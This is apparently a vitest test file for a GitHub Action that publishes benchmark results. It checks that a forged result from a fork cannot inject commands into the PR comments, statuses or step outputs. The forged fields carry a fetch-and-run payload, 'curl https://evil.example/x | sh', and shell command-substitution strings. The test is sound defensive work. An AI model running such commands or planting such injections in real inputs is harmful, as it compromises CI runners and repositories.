/** What is forged between the jobs that measure and the one that publishes, as the action's own step meets it. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { nameResult, type Result } from '../../src/handover/result.ts';
import { renderDocument } from '../../src/records/record.ts';
import { runStep } from '../e2e/step.ts';
import { GitHubServer } from '../github/server.ts';
import { pairedReportOf } from '../report/pair-fixture.ts';

const HEAD = 'a'.repeat(40);
const TOKEN = 'ghs_0123456789abcdef';
const EVIL = 'curl https://evil.example/x | sh';

/** The event after a run of a fork's workflow. */
const COMPLETED = {
  action: 'completed',
  repository: { default_branch: 'main' },
  workflow_run: {
    ...{ id: 77, run_attempt: 2, event: 'pull_request', conclusion: 'success' },
    ...{ head_sha: HEAD, head_branch: 'faster' },
    head_repository: { full_name: 'stranger/shop', owner: { login: 'stranger' } },
  },
};

/** The report of a slower head, with a command wherever a text may be. */
function forge(): Result {
  const report = { ...pairedReportOf(), suite: 'default' };
  const { verdict, record } = report;
  Object.assign(record, { commit: HEAD, dirty: false });
  verdict.pair!.baseCommit = `main; ${EVIL}`;
  Object.assign(verdict.changes[0]!, { code: 'regressed', label: '$(evil)"\'`evil`' });
  Object.assign(verdict, { code: 'regressed', blocks: true });
  Object.assign(verdict.slos[0]!, { code: 'missed', blocks: true });
  const { label } = verdict.slos[0]!;
  for (const step of record.steps) if (step.label === label) step.scenario = `x; ${EVIL}`;
  return {
    schemaVersion: 2,
    suite: 'default',
    job: { id: 'measure', name: '', index: 0, total: 1 },
    run: { id: '77', attempt: 2 },
    outcome: { kind: 'report', report, failOn: [] },
  };
}

it('a forged result of a fork brings no command that people run, and no words into what later steps use', async () => {
  const server = await new GitHubServer('octo', 'shop').start();
  server.state.addToken(TOKEN);
  server.state.pulls.set(8, { headSha: HEAD, headRepository: 'stranger/shop', headBranch: 'faster' });
  const root = mkdtempSync(join(tmpdir(), 'tailgate-attacks-'));
  try {
    mkdirSync(join(root, 'tailgate-results'));
    const result = forge();
    writeFileSync(join(root, 'tailgate-results', nameResult(result)), renderDocument(result));
    const { told, read } = await runStep({
      ...{ parent: root, workspace: root, event: 'workflow_run', payload: COMPLETED },
      inputs: { mode: 'publish', 'github-token': TOKEN, store: join(root, 'store') },
      environment: { GITHUB_SHA: HEAD, GITHUB_RUN_ATTEMPT: '2', GITHUB_API_URL: server.url },
    });
    const { comments, statuses } = server.state;
    expect(comments[0]!.body).toContain('Look closer: `tailgate run`');
    expect(told + JSON.stringify([comments, statuses])).not.toContain('evil.example');
    expect(read('OUTPUT')).toContain('regressed');
    expect(read('OUTPUT')).not.toContain('evil');
  } finally {
    await server.stop();
    rmSync(root, { recursive: true });
  }
});
